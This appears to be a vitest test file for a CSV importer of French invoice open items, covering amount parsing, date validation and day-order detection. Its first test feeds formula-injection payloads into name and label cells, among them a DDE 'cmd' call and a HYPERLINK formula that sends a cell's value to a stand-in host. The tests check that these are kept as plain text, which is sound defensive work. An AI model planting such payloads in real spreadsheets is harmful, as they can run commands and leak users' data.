import { expect, test } from 'vitest';
import { applyMapping } from './apply-mapping.ts';
import { createCsvReader, detectDelimiter } from './csv.ts';
import { guessMapping } from './guess-mapping.ts';
import type { OpenItemRow } from './open-item-row.ts';
import type { TableSummary } from './apply-mapping.ts';
import type { TableRow } from './table-row.ts';

type Read = { readonly items: readonly OpenItemRow[]; readonly summary: TableSummary; readonly asked: readonly string[] };

/** A table of one hostile cell each beside sound ones, read with its own guess. */
function read(cells: readonly string[][]): Read {
  const cell = (text: string): string => (/["\n\r;]/u.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  const text = `${[['Code client', 'Client', 'N° facture', 'Date facture', 'Échéance', 'Montant TTC', 'Libellé'], ...cells].map((row) => row.map(cell).join(';')).join('\n')}\n`;
  const rows: TableRow[] = [];
  const reader = createCsvReader(detectDelimiter(text) ?? ';', (row) => rows.push(row) > 0);
  reader.push(text);
  expect(reader.end()).toBeNull();
  const { mapping, uncertain } = guessMapping(rows);
  return { ...applyMapping({ mapping, currency: 'EUR' }, rows), asked: uncertain.filter((one) => one.severity === 'error').map((one) => one.code.replace('intake.', '')) };
}

/** A sound row that proves the day order; its amount proves no decimal mark. */
const SOUND = ['C9', 'Témoin', 'FA-9', '31/01/2026', '28/02/2026', '5', ''];
const problems = ({ summary }: Read): string[] => summary.problems.map((one) => `${one.line} ${one.code.replace('intake.', '')}`);

test.each<[string, string]>([
  ['S1-001', '=cmd|\' /C calc\'!A0'], ['S1-002', '+1+1'], ['S1-003', '-2+3'], ['S1-004', '@SUM(1)'], ['S1-005', '\t=1'], ['S1-006', '\r=1'], ['S1-007', '＝1'],
  ['S1-008', '=HYPERLINK("http://x/?d="&A1)'], ['S1-009', ';=1'],
])('%s: the formula %j is taken in as the text it is, in a name and a label', (_id, formula) => {
  const found = read([['C1', formula, 'FA-1', '31/01/2026', '28/02/2026', '10', formula], SOUND]);
  expect(found.items[0]).toMatchObject({ customerCode: 'C1', customerName: formula, document: 'FA-1', label: formula, amount: 1000n });
  expect(problems(found)).toEqual([]);
});

test.each<[string, string, bigint]>([
  ['S1-034', '1.234,56', 123_456n], ['S1-035', '1,234.56', 123_456n], ['S1-036', '1\u00a0234,56', 123_456n], ['S1-037', '1\u202f234,56', 123_456n], ['S1-046', '(123,45)', -12_345n], ['S1-047', '123,45-', -12_345n],
])('%s: %s is exact', (_id, text, minor) => {
  const found = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/02/2026', text, ''], SOUND]);
  expect([found.asked, problems(found)]).toEqual([[], []]);
  expect(found.items[0]).toMatchObject({ side: minor < 0n ? 'credit' : 'debit', amount: minor < 0n ? -minor : minor });
});

test('S1-039: -0,00 moves nothing and is told', () => {
  const found = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/02/2026', '-0,00', ''], SOUND]);
  expect([found.items.length, problems(found)]).toEqual([1, ['2 tableZeroAmount']]);
});

test.each<[string, string, string]>([
  ['S1-038', '1234.567', 'tableAmountDecimals'], ['S1-040', '1e5', 'tableAmountUnreadable'], ['S1-041', '0x1F', 'tableAmountUnreadable'], ['S1-042', 'NaN', 'tableAmountUnreadable'],
  ['S1-043', 'Infinity', 'tableAmountUnreadable'], ['S1-044', '٣٤٫٥', 'tableAmountUnreadable'], ['S1-045', '99999999999999999999.99', 'tableAmountOutOfRange'],
])('%s: %s is refused at its line, whole', (_id, text, code) => {
  const found = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/02/2026', text, ''], SOUND]);
  expect([found.summary.accepted, problems(found)]).toEqual([false, [`2 ${code}`]]);
});

test('S1-034 and S1-035 with 1.234 alone: the number format is asked once per file, not guessed by line', () => {
  const open = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/02/2026', '1.234', ''], ['C2', 'Lac', 'FA-2', '31/01/2026', '28/02/2026', '2.345', ''], SOUND]);
  expect(open.asked).toEqual(['tableDecimalUnproven']);
  const proved = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/02/2026', '1.234', ''], ['C2', 'Lac', 'FA-2', '31/01/2026', '28/02/2026', '0,5', '']]);
  expect([proved.asked, proved.items.map((item) => item.amount)]).toEqual([[], [123_400n, 50n]]);
});

test.each<[string, string]>([
  ['S1-048', '31/02/2026'], ['S1-049', '29/02/2027'], ['S1-051', '20260230'], ['S1-052', '0000-00-00'], ['S1-053', '9999-12-31'], ['S1-054', '1900-01-00'], ['S1-055', '2026-13-01'], ['S1-056', '26/1/6'],
])('%s: the date %s is refused at its line, whole', (_id, text) => {
  const found = read([['C1', 'Lac', 'FA-1', '31/01/2026', text, '10', ''], SOUND]);
  expect([found.summary.accepted, problems(found)]).toEqual([false, ['2 tableDayUnreadable']]);
});

test('S1-050: 02/03/2026 asks for the order of dates unless another date of the file proves it', () => {
  const row = (on: string): string[] => ['C1', 'Lac', `FA-${on}`, on, '', '10', ''];
  expect(read([row('02/03/2026'), row('04/05/2026')]).asked).toEqual(['tableDayOrderUnproven']);
  expect(read([row('02/03/2026'), row('13/05/2026')]).items.map((item) => item.issuedOn)).toEqual(['2026-03-02', '2026-05-13']);
  expect(read([row('02/03/2026'), row('05/13/2026')]).items.map((item) => item.issuedOn)).toEqual(['2026-02-03', '2026-05-13']);
  expect(read([row('13/03/2026'), row('05/13/2026')]).asked).toEqual(['tableDayOrderMixed']);
});

test('S1-057: a due day before the day of issue is told at its line', () => {
  const found = read([['C1', 'Lac', 'FA-1', '31/01/2026', '28/01/2026', '10', ''], SOUND]);
  expect(problems(found)).toEqual(['2 tableDueBeforeIssue']);
});
